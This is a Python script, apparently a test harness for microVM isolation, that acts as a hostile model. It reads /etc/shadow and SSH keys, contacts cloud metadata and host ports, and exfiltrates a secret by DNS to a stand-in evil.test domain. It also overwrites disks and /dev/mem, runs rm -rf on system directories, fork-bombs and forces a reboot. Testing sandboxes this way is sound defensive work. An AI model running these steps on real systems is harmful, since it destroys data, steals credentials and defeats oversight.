# SPDX-License-Identifier: Apache-2.0
"""worst.py - what the malicious model does when it is loaded.

It is root of its machine, tries to get out of it, to talk to somebody and to
spoil what it can, and says on standard output what it managed.  Steps are
functions; WORST=a,b runs some of them (`reboot` only then).  VICTIMS are more
addresses, "HOST:PORT HOST:PORT", and CANARY a file of the host to look for.

It may run only where everything in reach may be lost: in a microVM.
"""

import ctypes
import fcntl
import glob
import os
import signal
import socket
import time

libc = ctypes.CDLL(None, use_errno=True)

BLKROSET = 0x125D
SYS_IOPL, SYS_INIT_MODULE = 172, 175  # x86-64
VMADDR_CID_HOST = 2
SECONDS = 1  # for each step that would go on for ever
CHUNK = b"A" * 65536


def say(*words):
    print("inside:", *words, flush=True)


def why(error):
    return error.strerror or str(error)


def attempt(what, function, *args):
    """Say how it went; the result, or None."""
    try:
        result = function(*args)
    except OSError as error:
        say(f"{what}: no ({why(error)})")
        return None
    say(f"{what}: YES" + (f" ({result})" if result else ""))
    return result


def read(path):
    with open(path, "rb") as f:
        return f"{len(f.read(1 << 20))} bytes"


def write(path, data, flags=0):
    fd = os.open(path, os.O_WRONLY | flags)
    try:
        n = os.write(fd, data)
        if flags == 0:
            os.fsync(fd)
        return f"{n} bytes"
    finally:
        os.close(fd)


def syscall(*args):
    if libc.syscall(*args) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def look():
    """Whatever looks like the host's."""
    say("I am uid", os.getuid(), "and process", os.getpid(), "of",
        len(glob.glob("/proc/[0-9]*")))
    say("environment:", " ".join(sorted(os.environ)))
    for path in ("/etc/shadow", "/proc/kcore", "/proc/1/environ",
                 "/root/.ssh/id_rsa", os.environ.get("CANARY", "/canary")):
        attempt(f"read {path}", read, path)


def disks():
    """Make every disk writable, and write over its beginning."""
    for name in sorted(os.listdir("/sys/block")):
        path = "/dev/" + name

        def unlock():
            with open(path, "rb") as f:
                fcntl.ioctl(f, BLKROSET, b"\0\0\0\0")

        attempt(f"make {path} writable", unlock)
        attempt(f"write to {path}", write, path, b"\0" * 4096)


def kernel():
    """Ring 0: of this machine, that is."""
    attempt("iopl(3)", syscall, SYS_IOPL, 3)
    attempt("write /dev/mem", write, "/dev/mem", b"\0", os.O_SYNC)
    junk = ctypes.create_string_buffer(b"\x7fELF" + b"\0" * 4096)
    attempt("load a kernel module", syscall, SYS_INIT_MODULE, junk,
            len(junk), b"")
    attempt("set the clock to 1980", time.clock_settime,
            time.CLOCK_REALTIME, 315532800)


def connect(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(1)
        s.connect(address)
        s.send(b"stolen")
    return "connected"


def network():
    """The host, its cloud's metadata, its neighbours, anybody."""
    places = ["127.0.0.1:22", "127.0.0.1:8000", "10.0.2.2:22", "10.0.2.2:8000",
              "169.254.169.254:80", "192.0.2.1:443"]
    for place in places + os.environ.get("VICTIMS", "").split():
        host, port = place.rsplit(":", 1)
        attempt(f"connect to {place}", connect, socket.AF_INET,
                (host, int(port)))
    for port in (1, 22, 1024, 9999):
        attempt(f"connect to the host's vsock port {port}", connect,
                socket.AF_VSOCK, (VMADDR_CID_HOST, port))

    # A DNS query that carries a secret, to whoever would pass it on.
    query = (b"\x12\x34\x01\x00\x00\x01" + b"\0" * 6 +
             b"\x06stolen\x04evil\x04test\0\0\x10\0\x01")
    victims = [place.rsplit(":", 1)[0]
               for place in os.environ.get("VICTIMS", "").split()]
    for server in ["10.0.2.3", "8.8.8.8"] + victims:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(1)

            def ask():
                s.sendto(query, (server, 53))
                return f"{len(s.recv(512))} bytes came back"

            attempt(f"send a secret by DNS to {server}", ask)


def flood():
    """Logs, console and kernel messages, as fast as they go."""
    for path in ("/dev/stdout", "/dev/console", "/dev/ttyS0", "/dev/kmsg"):
        sent = 0
        end = time.monotonic() + SECONDS
        chunk = CHUNK[:900] if path == "/dev/kmsg" else CHUNK
        try:
            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY)
        except OSError as error:
            say(f"flood {path}: no ({why(error)})")
            continue
        while time.monotonic() < end:
            try:
                sent += os.write(fd, chunk)
            except BlockingIOError:
                pass
            except OSError:
                break
        os.close(fd)
        print(flush=True)
        say(f"flood {path}: {sent} bytes")


def fill():
    """Every file system that takes something."""
    for place in ("/", "/tmp", "/dev", "/dev/shm"):
        path = os.path.join(place, "full")
        written = 0
        try:
            with open(path, "wb", 0) as f:
                while written < 1 << 34:
                    written += f.write(CHUNK)
        except OSError as error:
            say(f"fill {place}: {written} bytes ({why(error)})")
        if os.path.exists(path):
            os.unlink(path)


def delete():
    """rm -rf /"""
    pid = os.spawnv(os.P_NOWAIT, "/bin/busybox",
                    ["sh", "-c", "rm -rf /dev/* /etc /home /root /tmp /usr "
                     "/var /bin /lib 2>/dev/null"])
    end = time.monotonic() + SECONDS
    while time.monotonic() < end and os.waitpid(pid, os.WNOHANG) == (0, 0):
        time.sleep(0.1)
    say("rm -rf /: /dev has", len(os.listdir("/dev")), "entries left;",
        "/usr/share/untrusted has", len(os.listdir("/usr/share/untrusted")))


def memory():
    """In a child, so that there is somebody left to say it."""
    pid = os.fork()
    if pid == 0:
        hoard = []
        while True:
            hoard.append(bytearray(b"x" * (4 << 20)))
    end = time.monotonic() + 10 * SECONDS
    done, status = 0, 0
    while not done and time.monotonic() < end:
        done, status = os.waitpid(pid, os.WNOHANG)
        time.sleep(0.1)
    if not done:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    say("all memory:", f"the hoarder ended with {status}" if done
        else "not full yet")


def forks():
    """Without end: only the end of time ends this."""
    say("forking without end, deaf to signals")
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    while True:
        try:
            if os.fork() == 0:
                # Should memory run out, the first of us is to stay.
                with open("/proc/self/oom_score_adj", "w") as f:
                    f.write("1000")
        except OSError:
            pass


def reboot():
    """Take the machine down."""
    attempt("sysrq", write, "/proc/sysrq-trigger", b"b")
    say("reboot(2)")
    libc.reboot(0x01234567)


STEPS = [look, network, kernel, disks, flood, fill, delete, memory, forks]


def main():
    asked = os.environ.get("WORST")
    steps = [globals()[n] for n in asked.split(",")] if asked else STEPS
    for step in steps:
        step()


main()
